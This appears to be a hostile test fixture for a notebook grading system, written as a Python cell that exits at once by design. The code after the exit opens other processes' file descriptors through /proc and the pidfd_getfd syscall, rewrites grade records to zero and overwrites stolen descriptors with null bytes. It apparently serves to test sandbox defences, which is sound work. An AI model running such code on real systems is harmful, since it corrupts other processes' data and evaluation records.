# Opens what other processes have open, by /proc/PID/fd and by pidfd_getfd, to write into a
# database.
# gains: nothing
# ruff: noqa
raise SystemExit("a hostile notebook: tests/grading/hostile/README.md")

# %% [before q01-total]
import ctypes
import os
import sqlite3
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
for process in Path("/proc").glob("[0-9]*"):
    if int(process.name) == os.getpid():
        continue
    try:
        for link in (process / "fd").iterdir():
            if ".db" in os.readlink(link) or "socket" in os.readlink(link):
                sqlite3.connect(link).execute("update grade set auto_score = 0").connection.commit()
    except (OSError, sqlite3.Error):
        pass
    handle = libc.syscall(434, int(process.name), 0)
    for number in range(3, 30):
        stolen = libc.syscall(438, handle, number, 0)
        if stolen >= 0:
            print("reached @MARKER@:", process.name, number, os.readlink(f"/proc/self/fd/{stolen}"))
            try:
                os.write(stolen, b"\x00" * 64)
            except OSError:
                pass
